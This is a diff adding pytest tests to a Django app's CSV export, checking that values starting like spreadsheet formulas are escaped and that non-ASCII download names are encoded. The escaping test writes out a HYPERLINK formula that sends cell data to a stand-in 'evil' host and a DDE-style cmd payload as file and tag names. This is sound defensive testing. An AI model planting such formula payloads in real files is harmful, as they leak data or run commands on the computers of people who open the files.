@@ -10,6 +10,7 @@ import pytest
 from django.test import Client as HttpClient
 from django.urls import reverse
 
+from labeling.models import Tag
 from labeling.services import exporting, labels
 
 pytestmark = pytest.mark.django_db
@@ -95,3 +96,23 @@ def test_unsafe_names_cannot_escape_their_folder(world):
 def test_exports_are_404_for_other_clients_and_unknown_kinds(world, labeled):
     assert download(world, "csv", user=world.otto)[0] == 404
     assert download(world, "pdf")[0] == 404
+
+
+def test_csv_cells_that_start_like_a_formula_open_as_text(world, labeled):
+    # Tag and file names come from users and ZIPs: a spreadsheet must not run them.
+    lib = labeled
+    Tag.objects.filter(pk=lib.tags["nike"]).update(name='=HYPERLINK("http://evil/?"&A1,"x")')
+    lib.assets[0].original_name = "+cmd|' /C calc'!A0.png"
+    lib.assets[0].save()
+    _, body, _ = download(world, "csv")
+    rows = list(csv.DictReader(io.StringIO(body.decode())))
+    assert rows[0]["file"] == "'+cmd|' /C calc'!A0.png"
+    assert rows[0]["tags"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
+    assert rows[1]["tags"] == "adidas" and rows[0]["asset_id"] == str(lib.assets[0].pk)  # plain cells untouched
+
+
+def test_a_non_ascii_taxonomy_name_gives_a_utf8_download_name(world, labeled):
+    world.brand.name = "Marke Größe"
+    world.brand.save()
+    _, _, r = download(world, "csv")
+    assert r["Content-Disposition"] == "attachment; filename*=utf-8''acme-Marke_Gr%C3%B6%C3%9Fe.csv"
